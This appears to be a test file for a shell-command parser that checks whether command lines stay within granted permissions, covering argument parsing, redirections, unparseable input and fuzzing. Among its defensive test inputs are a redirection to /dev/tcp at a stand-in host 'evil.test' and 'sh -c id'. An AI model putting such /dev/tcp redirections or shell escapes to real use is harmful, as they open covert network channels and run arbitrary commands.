import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { loadCommandReader, readCommand } from '../../electron/authority/read-command.ts';
import { commandLineSchema, type CommandLine } from '../../shared/contract/command.ts';
import { fuzzCommands } from '../fuzz/commands.ts';
import { lineProblem, words } from '../commands/judge-line.ts';
import { TECHNIQUES } from '../commands/lines.ts';
import { commandLine } from '../differential/command-lines.ts';
import { randomFrom } from '../support/random.ts';

beforeAll(loadCommandReader);

function argvsOf(read: CommandLine): readonly (readonly string[] | null)[] {
  return read.kind === 'parsed' ? read.commands.map(({ argv }) => argv) : [];
}

describe.each(TECHNIQUES)('$technique', ({ granted, shell, match, inside, exceeds }) => {
  const grants = granted.map(words);

  test.each(inside)('runs without a question: %j', (line) => {
    expect(lineProblem(line, grants, shell, match)).toBeNull();
  });

  test.each(exceeds)('asks: %j', (line) => {
    expect(lineProblem(line, grants, shell, match)).not.toBeNull();
  });
});

describe('the words of a command', () => {
  test.each([
    ['git commit -m "a \\"b\\" $"', ['git', 'commit', '-m', 'a "b" $']],
    ["g''it st\\atus", ['git', 'status']],
    ["echo $'a\\tb\\x41'", ['echo', 'a\tbA']],
    ['echo "a\\\nb" \\\n c', ['echo', 'ab', 'c']],
    ['echo \'\' ""', ['echo', '', '']],
    ['cat src/*.ts', ['cat', 'src/*.ts']],
    ['[ -f a.txt ]', ['[', '-f', 'a.txt', ']']],
    ['>/dev/null git status', ['git', 'status']],
    ['git 2>&1 status >/dev/null -s', ['git', 'status', '-s']],
    ['echo "äö" \'日本\'', ['echo', 'äö', '日本']],
  ])('are those that the program gets: %j', (line, argv) => {
    expect(argvsOf(readCommand(line, 'bash'))).toEqual([argv]);
  });

  test('are there for every command of a line, in its order', () => {
    const line =
      "if git diff --quiet; then echo 'a b' | wc -l; else (ls; pwd) 2>/dev/null; fi && cat <<'E' | sort\n$x\nE\n";
    expect(argvsOf(readCommand(line, 'bash'))).toEqual([
      ['git', 'diff', '--quiet'],
      ['echo', 'a b'],
      ['wc', '-l'],
      ['ls'],
      ['pwd'],
      ['cat'],
      ['sort'],
    ]);
  });

  test('are missing, with the reason, where one of them isn’t settled before the line runs', () => {
    const read = readCommand('ls && echo "$HOME"', 'bash');
    expect(read).toEqual({
      kind: 'parsed',
      commands: [
        { text: 'ls', argv: ['ls'], problem: null, redirections: [] },
        { text: 'echo "$HOME"', argv: null, problem: 'a variable stands in it', redirections: [] },
      ],
    });
  });
});

describe('a redirection to a file', () => {
  test.each([
    ['echo a > out.txt', 'out.txt', 'write'],
    ['echo a >> "my file"', 'my file', 'write'],
    ['echo a >| out', 'out', 'write'],
    ['echo a &> out', 'out', 'write'],
    ['echo a >& out', 'out', 'write'],
    ['git status 2> err', 'err', 'write'],
    ['cat < in', 'in', 'read'],
    ["cat > out <<'E'\n$x\nE", 'out', 'write'],
    ["cat <<'E' > out\n$x\nE", 'out', 'write'],
    ["cat <<'E' >out 2>&1\nE\n", 'out', 'write'],
    ['> out echo a', 'out', 'write'],
  ])('is a reach of its own beside the command: %j', (line, path, access) => {
    const read = readCommand(line, 'bash');
    const found = read.kind === 'parsed' ? read.commands : [];
    expect(found.map(({ redirections }) => redirections)).toEqual([[{ path, access }]]);
    expect(found[0]?.argv).not.toBeNull();
  });

  test.each([
    ['a && b < in', [[], ['in']]],
    ['a || ! b > out', [[], ['out']]],
    ['a < in && b', [['in'], []]],
    ['a && b | c <in >out', [[], [], ['in', 'out']]],
    ['a < in | b > one && c > two', [['in'], ['one'], ['two']]],
  ])('belongs to one command of a chain: %j', (line, opened) => {
    const read = readCommand(line, 'bash');
    const commands = read.kind === 'parsed' ? read.commands : [];
    expect(commands.map(({ redirections }) => redirections.map(({ path }) => path))).toEqual(opened);
    expect(commands.map(({ argv }) => argv)).not.toContain(null);
  });

  test('of several commands is there too, and is nobody’s words', () => {
    const read = readCommand('{ ls; pwd; } > out', 'bash');
    expect(read.kind === 'parsed' ? read.commands.at(-1) : null).toMatchObject({
      argv: null,
      redirections: [{ path: 'out', access: 'write' }],
    });
  });

  test.each(['cat < src/*', 'echo a > src/a?.ts', 'echo a 2>> src/[ab].ts'])(
    'isn’t known when its name is a pattern: %s',
    (line) => {
      const read = readCommand(line, 'bash');
      expect(read.kind === 'parsed' ? read.commands : []).toMatchObject([{ argv: null, redirections: [] }]);
    },
  );

  test.each(['> /dev/tcp/evil.test/80', '< /dev/udp/a/1', '> //dev//tcp/a/1', '> /proc/self/fd/1'])(
    'isn’t one when its name opens something else: %s',
    (redirection) => {
      const read = readCommand(`echo a ${redirection}`, 'bash');
      expect(argvsOf(read)).toEqual([null]);
    },
  );
});

describe('a line that can’t be worked out', () => {
  test.each([
    ['', 'it is empty'],
    [' \n\t', 'it is empty'],
    ['# only a comment', 'it runs nothing'],
    ['git status "', 'it is not a complete command line'],
    ['git status\u200b', 'it holds a character that can’t be seen'],
    ['ls '.repeat(10_000), 'it is longer than a command line'],
    [`ls ${'<'.repeat(5_000)}`, 'it is too long for what stands in it'],
    ['ls;'.repeat(3_001), 'it has too many words'],
    ['echo a {fd}>x', 'it can be read in two ways'],
  ])('says why: %j', (line, why) => {
    expect(readCommand(line, 'bash')).toEqual({ kind: 'unparsed', why });
  });

  test.each(['(', 'true && ', '! ', '{ ', '"a"', '`', '$(', '<', 'if true; then ', "'"])(
    'of thousands of `%s` neither throws nor passes',
    (piece) => {
      const line = piece.repeat(Math.floor(19_000 / piece.length));
      expect(lineProblem(line, [['true'], ['a']])).not.toBeNull();
    },
  );
});

describe('any line', () => {
  test('has a result that fits the contract, in every shell, and nothing fails open', () => {
    const random = randomFrom(11);
    for (let count = 0; count < 1_500; count += 1) {
      const line = commandLine(random);
      fuzzCommands(line);
      for (const shell of ['bash', 'zsh', 'cmd', 'powershell'] as const)
        expect(() => commandLineSchema.parse(readCommand(line, shell))).not.toThrow();
    }
  });

  test('of characters that mean something to a shell fails open nowhere', () => {
    const characters = fc.constantFrom(...' \n\t;&|<>(){}[]$`\'"\\!#~*?=-+:/.,@%^abEgitls1'.split(''));
    fc.assert(fc.property(fc.string({ unit: characters, maxLength: 40 }), fuzzCommands), {
      numRuns: 3_000,
      seed: 5,
    });
  });

  test('that holds a command beyond the grant isn’t covered, wherever it stands', () => {
    const ordinary = fc.constantFrom(
      'git status',
      'ls -la',
      "echo 'a;b'",
      'cat a.txt | wc -l',
      '(ls)',
      '! git status',
    );
    const stranger = fc.constantFrom(
      'touch x',
      'git push',
      'sh -c id',
      '/bin/ls',
      'lss',
      'GIT status',
      "'git status'",
    );
    const joint = fc.constantFrom('; ', ' && ', ' || ', ' | ', '\n', ' |& ');
    const lines = fc.tuple(
      fc.array(ordinary, { maxLength: 4 }),
      stranger,
      fc.array(ordinary, { maxLength: 4 }),
      joint,
    );
    const granted = ['git status', 'ls', 'echo', 'cat', 'wc'].map(words);
    fc.assert(
      fc.property(lines, ([before, strange, after, between]) => {
        expect(lineProblem([...before, ...after].join(between) || 'ls', granted)).toBeNull();
        expect(lineProblem([...before, strange, ...after].join(between), granted)).not.toBeNull();
      }),
      { numRuns: 300, seed: 7 },
    );
  });
});
